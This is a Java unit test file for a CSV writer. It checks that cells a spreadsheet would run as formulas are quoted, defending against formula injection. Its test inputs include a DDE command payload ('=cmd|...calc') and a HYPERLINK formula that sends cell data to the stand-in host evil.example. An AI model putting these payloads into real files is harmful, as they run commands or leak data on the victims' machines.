package dev.descent.format;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvOutputTest {

    private static String csv(Object... cells) throws IOException {
        StringWriter text = new StringWriter();
        try (CsvOutput csv = new CsvOutput(text)) {
            csv.write(Arrays.asList(cells));
        }
        return text.toString();
    }

    /** What spreadsheets run: see OWASP's list, and the characters of other scripts that they take for the same. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-1+1",
                "-",
                "+",
                "-2-",
                "@SUM(A1)",
                "\uff1d1+1",
                "\uff0b1+1",
                "\uff0d1+1",
                "\uff20SUM(A1)",
                "-1 "
            })
    void aTextThatASpreadsheetWouldRunIsQuoted(String text) throws IOException {
        assertThat(csv(text, "x")).isEqualTo("'" + text + ",x\n");
    }

    @Test
    void quotesAndSeparatorsDoNotHideAFormula() throws IOException {
        assertThat(csv("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"click\"\")\"\n");
        assertThat(csv("\t=1+1")).isEqualTo("'\t=1+1\n");
        assertThat(csv("\r=1+1")).isEqualTo("\"'\r=1+1\"\n");
        assertThat(csv("\n=1+1")).isEqualTo("\"'\n=1+1\"\n");
        assertThat(csv("a\n=1+1,\"b\"")).isEqualTo("\"a\n=1+1,\"\"b\"\"\"\n");
    }

    @Test
    void numbersAndHarmlessTextsStayAsTheyAre() throws IOException {
        assertThat(csv(-3.5, 7L, true, Instant.EPOCH, null, "", "-3.5", "+1", "-1e-7", "a=b", "'=1", "größe"))
                .isEqualTo("-3.5,7,true,1970-01-01T00:00:00Z,,,-3.5,+1,-1e-7,a=b,'=1,größe\n");
        assertThat(List.of(csv("x"), csv((Object) null))).containsExactly("x\n", "\n");
    }
}
